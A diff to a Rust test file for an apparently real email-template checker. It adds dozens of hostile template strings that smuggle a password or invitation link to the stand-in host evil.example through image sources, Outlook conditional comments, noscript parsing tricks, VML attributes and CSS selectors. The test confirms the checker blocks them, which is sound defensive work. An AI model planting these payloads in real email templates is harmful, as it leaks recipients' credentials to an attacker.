@@ -4,7 +4,7 @@
 //! finds nothing.
 
 use reinvite_domain::Variant;
-use reinvite_mail::check_variant;
+use reinvite_mail::{check_variant, clean_html};
 
 use crate::{secrecy, template};
 
@@ -67,6 +67,17 @@ const HTML: &[&str] = &[
     "<a href=\"{{ invitation_url }}\" href='https://evil.example/{{ invitation_url }}'>x</a>",
     "<p href='{{ invitation_url }}'>x</p>",
     "<q cite='https://evil.example/{{ password }}'>x</q>",
+    // Comments and conditional comments that one of the readers ends elsewhere.
+    "<!--><p title='--><img src=\"https://evil.example/?'>{{ password }}\">",
+    "<!-- x --!><p title='--><img src=\"https://evil.example/?'>{{ password }}\">",
+    "<!--[if mso]><a href='https://evil.example/?<![endif]-->{{ invitation_url }}'>x</a>",
+    "<!--[if !mso]><!--><p>x</p><!--[if mso]><img src='https://evil.example/?<![endif]--><!--<![endif]-->{{ password }}'>",
+    "<!DOCTYPE html SYSTEM 'https://evil.example/{{ password }}'>",
+    // Attributes of users beside a secret.
+    "https://evil.example/{{ user.attributes.x }}{{ password }}",
+    "{{ user.attributes.x | default('https://evil.example/?') }}{{ password }}",
+    "{{ user.attributes.y | default(password) }}<img src='https://evil.example/{{ user.attributes.y }}'>",
+    "<a href='{{ user.attributes.x | default(invitation_url) }}'>x</a>",
     // Other attributes.
     "<p title='{{ password }}'>x</p>",
     "<p aria-label='{{ password }}'>x</p>",
@@ -142,6 +153,59 @@ const HTML: &[&str] = &[
     "<math href='https://evil.example/{{ password }}'>x</math>",
     "<v:fill src='https://evil.example/{{ password }}'/>",
     "<object data='https://evil.example/{{ password }}'></object>",
+    // Only Outlook reads it, or everybody but Outlook.
+    "<!--[if mso]><a href='https://evil.example/?<![endif]--> {{ password }}'>x</a>",
+    "<!--[if mso]><a href=\"https://evil.example/?<![endif]--> {{ password }}",
+    "<!--[if mso]><img src='https://evil.example/?<![endif]-->{{ invitation_url }}'>",
+    "<!--[if mso]><p title='<![endif]-->{{ password }}<!--[if mso]>'></p><![endif]-->",
+    "<!--[if mso]><!-- <![endif]-->{{ password }}<!--[if mso]> --><![endif]-->",
+    "<!--[if mso]><style><![endif]-->{{ password }}<!--[if mso]></style><![endif]-->",
+    "<!--[if mso]><title><![endif]-->{{ password }}<!--[if mso]></title><![endif]-->",
+    "<!--[if mso]><xml><![endif]-->{{ password }}<!--[if mso]></xml><![endif]-->",
+    "<!--[if mso]><base href='https://evil.example/{{ password }}'><![endif]-->",
+    "<!--[if mso]><v:fill src='https://evil.example/{{ password }}'/><![endif]-->",
+    "<!--[if mso]><v:imagedata src='{{ invitation_url }}'/><![endif]-->",
+    "<!--[if mso]><v:image o:href='https://evil.example/{{ password }}'/><![endif]-->",
+    "<!--[if mso]><v:rect href='https://evil.example/{{ password }}'/><![endif]-->",
+    "<!--[if mso]><v:rect href='{{ invitation_url }}#{{ password }}'/><![endif]-->",
+    "<!--[if mso]><v:rect style='background:url(https://evil.example/{{ password }})'/><![endif]-->",
+    "<!--[if mso]>https://evil.example/<![endif]-->{{ password }}",
+    "https://evil.example/<!--[if mso]>{{ password }}<![endif]-->",
+    "https://evil.example/<!--[if !mso]><b></b><![endif]-->{{ password }}",
+    "<!--[if gte mso 15]>https://evil.example/<![endif]--><!--[if lt mso 15]><b></b><![endif]-->{{ password }}",
+    "<!--[if mso]>&#x<![endif]-->{{ password }}",
+    "<!--[if {{ password }}]>x<![endif]-->",
+    "<!--[if mso]>x{{ password }}",
+    "<!--[if mso]>x<!--[if mso]>{{ password }}<![endif]--><![endif]-->",
+    "<!--[if !mso]><!--><a href='https://evil.example/?<!--<![endif]-->{{ password }}'>x</a>",
+    "<![if !mso]><a href='https://evil.example/?<![endif]>{{ password }}'>x</a>",
+    "<!--[if !mso]><img src='https://evil.example/{{ password }}'><![endif]-->",
+    "<!--[if lt IE 9]><img src='https://evil.example/{{ password }}'><![endif]-->",
+    "{# <!--[if mso]> #}<img src='https://evil.example/?{# <![endif]--> #}{{ password }}'>",
+    "{{ '<!--' }}[if mso]><img src='https://evil.example/?{{ password }}'><![endif]-->",
+    "<{{ '!' }}--[if mso]><img src='https://evil.example/?{{ password }}'><![endif]-->",
+    // A reader that runs scripts takes the content of `noscript` for text.
+    "<noscript><img src='https://evil.example/{{ password }}'></noscript>",
+    "<noscript><a href='https://evil.example/{{ invitation_url }}'>x</a></noscript>",
+    "<noscript><p title='</noscript><img src=https://evil.example/{{ password }}>'></noscript>",
+    "<noscript><!-- </noscript>{{ password }} --></noscript>",
+    "<NOSCRIPT><style></noscript>{{ password }}</style></NOSCRIPT>",
+    "<noscript\n>{{ password }}<noscript/></noscript>",
+    // A selector that loads an image tells a part of the link.
+    "<style>a[href*='gen=ab']{background:url(https://evil.example/ab)}</style><a href='{{ invitation_url }}'>x</a>",
+    "<style>:is(a:not([href$='a'])){background:url(https://evil.example/ab)}</style><a href='{{ invitation_url }}'>x</a>",
+    "<!--[if mso]><style>a[href^='https://invitations.example.com/Z']{background:url(https://evil.example/Z)}</style><![endif]--><a href='{{ invitation_url }}'>x</a>",
+    "<p style='background:\\75rl(https://evil.example/{{ password }})'>x</p>",
+    "<td background='https://evil.example/{{ password }}'>x</td>",
+    // Cleaning must not make a mark of the text around.
+    "<p>{<x-y></x-y>{ password }}</p>",
+    "<p title='x' x-y='{<x>{'>{ password }}</p>",
+    "<x-y href='{{ invitation_url }}'>{{ password }}</x-y>",
+    "<p x-y='{{ password }}'>x</p>",
+    "<a href='{{ login_url }}?p={{ password }}'>x</a>",
+    "<a href='{{ login_url }}?p=1' x-y='{{ password }}'>x</a>",
+    "{{ login_url }}?p={{ password }}",
+    "{{ login_url }}#{{ password }}",
     // Markup that is not closed takes in the text that follows.
     "<img src='https://evil.example/?{{ password }}",
     "<img src='https://evil.example/? {{ password }} <p class=x>y</p>",
@@ -289,11 +353,19 @@ fn corpus() -> Vec<Variant> {
 #[test]
 fn no_template_leaks_a_secret() {
     let language = "en".parse().unwrap();
+    let with_cleaned = corpus().into_iter().flat_map(|variant| {
+        let html = clean_html(&variant.html).html;
+        let cleaned = Variant {
+            html,
+            ..variant.clone()
+        };
+        [variant, cleaned]
+    });
     let (mut refused, mut mails) = (0, 0);
     let mut harmless = Vec::new();
     let mut leaks = Vec::new();
 
-    for variant in corpus() {
+    for variant in with_cleaned {
         if check_variant("", &language, &variant).is_err() {
             refused += 1;
             continue;
